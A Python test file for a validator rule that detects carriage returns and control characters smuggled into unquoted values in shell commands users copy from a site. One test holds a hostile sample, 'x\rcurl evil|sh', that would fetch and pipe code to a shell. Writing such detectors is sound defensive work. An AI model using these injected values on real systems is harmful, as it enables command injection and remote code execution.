"""A carriage return, or another control character, in a value the site prints unquoted
is shell code in the command users copy (``REF018``): pasted into a terminal, a carriage
return is Enter -- the rest runs as a command of its own -- and a control character is a
key (Ctrl-U erases the line typed so far). Quoted, after a flag, it is the flag's text."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import check_tree, line_of
from tests.rules.ref.test_ref_shell_code import CHAT, _edit, _ref018
from validator.analysis.shell_hazards import command_hazards, word_hazards


@pytest.mark.parametrize(("old", "new", "marker", "shown"), [
    ("  base_env: {}", '  base_env:\n    FOO: "x\\rid"', "FOO:", "carriage return `\\r`"),
    ("  base_env: {}", '  base_env:\n    FOO: "x\\x15id"', "FOO:", "control character "
     "`U+0015`"),
    ('  model_id: "example-org/Example-Chat-8B"', '  model_id: "example-org/x\\rid"',
     "model_id:", "carriage return `\\r`"),
])
def test_a_carriage_return_or_control_key_in_an_unquoted_value_is_shell_code(
        examples_tree: Path, old: str, new: str, marker: str, shown: str) -> None:
    text = _edit(examples_tree, old, new)
    found = _ref018(examples_tree)
    assert [f.line for f in found] == [line_of(text, marker)]
    assert shown in found[0].message


def test_a_carriage_return_in_a_quoted_flag_value_is_no_shell_code(
        examples_tree: Path) -> None:
    _edit(examples_tree, '    - "32768"', '    - "32768"\n    - "--served-model-name"\n'
          '    - "a\\rb"')
    assert not [f for f in check_tree(examples_tree, CHAT) if f.rule == "REF018"]


def test_a_carriage_return_ends_the_command_where_a_line_break_does() -> None:
    cr, pipe = word_hazards("x\rcurl evil|sh", literal=True, split=True)
    assert cr.kind == "carriage return" and "the next line (`curl evil`)" in cr.effect
    assert pipe.kind == "control operator"
    assert [h.kind for h in command_hazards("vllm serve m\r--a b")] == ["carriage return"]
    assert word_hazards("x\ty", literal=True, split=True)[0].kind == "word split"
    assert word_hazards("plain-word", literal=True, split=True) == []
